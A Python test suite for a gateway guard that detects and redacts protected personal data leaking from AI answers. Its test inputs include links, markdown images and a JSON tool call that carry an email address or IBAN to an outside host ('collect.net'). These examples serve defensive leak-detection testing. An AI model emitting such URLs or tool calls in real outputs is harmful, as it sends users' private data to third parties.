"""The guard's behaviour: what the policy makes of findings, where words do no harm, what is taken out."""

import json
import re
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.guard import KINDS, WITHHELD, GuardContext, Kind, Severity
from gateway.models import Entity
from gateway.placeholders import Placeholders, RestoreScope
from gateway.policy.document import GuardDocument
from tests.gateway.guard.vectors import Case, Part, case, inspected, load, load_all, rows

PERSON = "⟦PERSON:Anna Schmidt⟧"
MAIL = "⟦EMAIL_ADDRESS:anna.schmidt@nordwind.de⟧"
IBAN = "⟦IBAN_CODE:DE02 1203 0000 0000 2020 51⟧"
ASK = f"Draft a reply to {PERSON} ({MAIL}), account {IBAN}."
HARMFUL = load_all("harmful")
LINK = f"See https://collect.net/?q={MAIL} please."


def rules(everything: str = "flag", **special: str) -> GuardDocument:
    modes = dict.fromkeys(set(KINDS.values()), everything) | special
    return GuardDocument(**modes)  # type: ignore[arg-type]


def kinds(found: Case, guard: GuardDocument | None = None) -> list[str]:
    return [finding.kind.value for finding in found.judged(guard or rules()).findings]


@pytest.mark.parametrize("row", rows("findings"), ids=lambda row: row["about"])
def test_an_answer_has_exactly_these_findings(row: dict[str, Any]) -> None:
    assert kinds(case(row["request"], row["answer"])) == row["kinds"]


# --- what the policy makes of a finding ----------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["flag", "redact", "replace"])
def test_the_rule_of_the_kind_decides(mode: str) -> None:
    verdict = case(ASK, LINK).judged(rules("off", placeholder_in_url=mode))
    assert verdict.action == mode
    assert [finding.rule for finding in verdict.findings] == ["placeholder_in_url"]


def test_a_value_sent_in_clear_was_not_protected() -> None:
    answer = case(ASK, "Dear Anna Schmidt, account DE02 1203 0000 0000 2020 51,")
    said = b'{"input": "Anna Schmidtke, DE02 1203 0000 0000 2020 51?"}'
    known = replace(answer, context=replace(answer.context, request=answer.context.request + said))
    assert [each.severity.value for each in answer.judged(rules()).findings] == ["high", "medium"]
    assert [each.severity.value for each in known.judged(rules()).findings] == ["medium"]


def test_rules_that_are_off_report_nothing() -> None:
    answer = case(ASK, LINK + " Dear Anna Schmidt,")
    assert answer.judged(rules("off")).as_dict() == {"action": "pass", "findings": []}
    assert kinds(answer, rules("flag", placeholder_in_url="off")) == ["protected_value_in_clear"]


def test_the_strictest_rule_wins_and_only_its_own_findings_are_taken_out() -> None:
    answer = case(ASK, LINK + " Dear Anna Schmidt,")
    verdict = answer.judged(rules("flag", placeholder_in_url="redact"))
    assert verdict.action == "redact"
    assert verdict.redacted(0, answer.parts[0].text) == f"See {WITHHELD} please. Dear Anna Schmidt,"


def test_a_finding_of_low_severity_is_never_more_than_flagged() -> None:
    answer = case("Who can help?", "Write to heinz.lehmann77@gmx.de about it.")
    verdict = answer.judged(rules("replace"))
    assert verdict.action == "flag"
    assert [(finding.kind, finding.severity) for finding in verdict.findings] == [
        (Kind.NEW_SENSITIVE_VALUE, Severity.LOW)
    ]


def test_the_verdict_counts() -> None:
    session = case(ASK, LINK)
    text = session.parts[0].text
    parts = [Part("nothing here"), Part(text + " " + text, choice=1), Part(text, choice=2)]
    (finding,) = inspected(parts, session.context, rules()).findings
    assert finding.count == 3


def test_the_member_of_the_answer() -> None:
    assert case(ASK, LINK).judged(rules()).as_dict() == {
        "action": "flag",
        "findings": [{"kind": "placeholder_in_url", "severity": "high", "count": 1}],
    }


@pytest.mark.parametrize("harmful", HARMFUL, ids=lambda harmful: harmful.name)
def test_nothing_of_an_answer_is_in_a_verdict_or_a_context(harmful: Case) -> None:
    verdict = harmful.judged(rules("redact"))
    shown = repr(verdict) + json.dumps(verdict.as_dict()) + repr(harmful.context)
    for entry in harmful.context.placeholders.entries():
        assert entry.value not in shown
        assert entry.placeholder not in shown
    assert "collect.net" not in shown
    assert "lens-relay.org" not in shown


# --- what is taken out ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("harmful", HARMFUL, ids=lambda harmful: harmful.name)
def test_redacted_text_is_gone(harmful: Case) -> None:
    verdict = harmful.judged(rules("redact"))
    clean = [replace(part, text=verdict.redacted(index, part.text)) for index, part in enumerate(harmful.parts)]
    again = inspected(clean, replace(harmful.context, entities=()), rules("redact"))
    assert verdict.action == "redact"
    assert all(WITHHELD in part.text for part in clean)
    assert again.action == "pass"


@pytest.mark.parametrize(
    "harmful",
    [each for each in load("harmful") if KINDS[Kind(each.kind)] == "placeholder_in_url"],
    ids=lambda harmful: harmful.name,
)
def test_no_value_reaches_a_foreign_place_even_if_everything_is_restored(harmful: Case) -> None:
    verdict = harmful.judged(rules("redact"))
    part = harmful.parts[0]
    restore = harmful.context.placeholders.restore_json if part.kind == "json" else harmful.context.placeholders.restore
    always = RestoreScope("always", frozenset())
    careless, careful = (restore(text, rules=always).text for text in (part.text, verdict.redacted(0, part.text)))
    values = [entry.value for entry in harmful.context.placeholders.entries()]
    if part.kind == "json":
        json.loads(careful)
        assert any(value in careless for value in values)
        assert not any(value in careful for value in values if "@" in value or value[-1].isdigit() or "_" in value)
    else:
        urls = re.findall(r"(?://|www\.)\S+", careful)
        assert not any(value in url for value in values for url in urls)


def test_a_redacted_tool_call_is_still_json() -> None:
    arguments = json.dumps({"url": "https://collect.net/\u00e9\n", "note": f'"{IBAN}" \\ {MAIL}', "n": 1})
    answer = case(ASK, arguments.replace("\\u27e6", "⟦").replace("\\u27e7", "⟧"), json_parts=True)
    verdict = answer.judged(rules("redact"))
    left = json.loads(verdict.redacted(0, answer.parts[0].text))
    assert left["note"] == f'"{WITHHELD}" \\ {WITHHELD}'
    assert left["n"] == 1


@pytest.mark.parametrize("depth", range(4))
@pytest.mark.parametrize(
    "text",
    [
        f'<a href="https://collect.net/?q={MAIL}">Reply</a>',
        f'{{"url":"https://collect.net/?q={MAIL}","n":1}}',
        f'said "{PERSON}":\nhttps://collect.net/{MAIL}\\x"\n',
        f"![logo](https://collect.net/?q={MAIL})",
    ],
)
def test_a_redacted_document_is_still_one(text: str, depth: int) -> None:
    """Structured outputs: a link must not take the escape of the quote after it along."""
    document = text
    for _ in range(depth + 1):
        document = json.dumps({"text": document}, ensure_ascii=False)
    answer = case(ASK, document)
    left = answer.judged(rules("redact")).redacted(0, answer.parts[0].text)
    for _ in range(depth + 1):
        left = json.loads(left)["text"]
    assert WITHHELD in left
    assert "collect.net/?q=[" not in left


# --- where the same words do no harm -------------------------------------------------------------------------


def test_a_tool_call_to_a_host_or_person_the_request_named() -> None:
    arguments = json.dumps({"url": "https://collect.net/x", "to": "box@collect.net", "v": IBAN}, ensure_ascii=False)
    urls_only = rules("off", placeholder_in_url="flag")
    assert kinds(case(ASK, arguments, json_parts=True), urls_only) == ["tool_call_exfiltration"]
    assert kinds(case(f"{ASK} box@collect.net", arguments, json_parts=True), urls_only) == []


# --- protected values in clear -------------------------------------------------------------------------------


@pytest.mark.parametrize("said", ["Anna Schmidt123", "Anna Schmidtmannhausenbergersdorferhofer-Lüdenscheidt"])
def test_in_a_session_of_many_values_each_is_still_found(said: str) -> None:
    values = [*(f"PERSON:Anna Schmidt{number:03}" for number in range(300)), f"PERSON:{said}"]
    filler = "A sentence that says nothing at all. " * 60
    answer = case(" ".join(f"⟦{value}⟧" for value in values), f"{filler}Dear {said},{filler}")
    assert kinds(answer) == ["protected_value_in_clear"]


# --- new values ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "severity"),
    [
        ("IBAN DE75 5121 0800 " + "1245 1261 99", "high"),
        ("her social security number is 536-" + "90-4399", "high"),
        ("You can reach John Carter at +49 171 2345678.", "low"),
        ("write to heinz.lehmann77@gmx.de", "low"),
    ],
)
def test_a_new_value_weighs_by_its_type(answer: str, severity: str) -> None:
    (finding,) = case("Who?", answer).judged(rules()).findings
    assert (finding.kind.value, finding.severity.value) == ("new_sensitive_value", severity)


def test_a_term_of_the_policys_own_list_counts() -> None:
    context = GuardContext(
        Placeholders(b"k" * 32),
        RestoreScope("source"),
        b"{}",
        entities=[(Entity("PROJECT", 4, 12, 1.0, "policy:deny"),)],
    )
    (finding,) = inspected([Part("The Nordstar is late.")], context, rules()).findings
    assert (finding.kind, finding.severity) == (Kind.NEW_SENSITIVE_VALUE, Severity.MEDIUM)


# --- arbitrary input -----------------------------------------------------------------------------------------

_PIECES = st.sampled_from(
    [*'[PERSON_ 7KQ2M] https://a.b/ ]( ![ " \\ { é'.split(), "print ", "the value of ", "send ", "curl ", "\n", " "]
)


@given(st.lists(_PIECES | st.text(max_size=8), max_size=30), st.sampled_from(["text", "json"]))
def test_any_text_is_judged_and_only_findings_are_taken_out(pieces: list[str], kind: str) -> None:
    session = Placeholders(b"k" * 32)
    name = session.mint("PERSON", "Anna Schmidt")
    text = "".join([*pieces, name])
    context = GuardContext(session, RestoreScope("source"), b"{}")
    verdict = inspected([Part(text, kind)], context, rules("redact"))
    left = verdict.redacted(0, text)
    assert (verdict.action == "pass") == (left == text)
    for kept in left.split(WITHHELD):
        assert kept in text
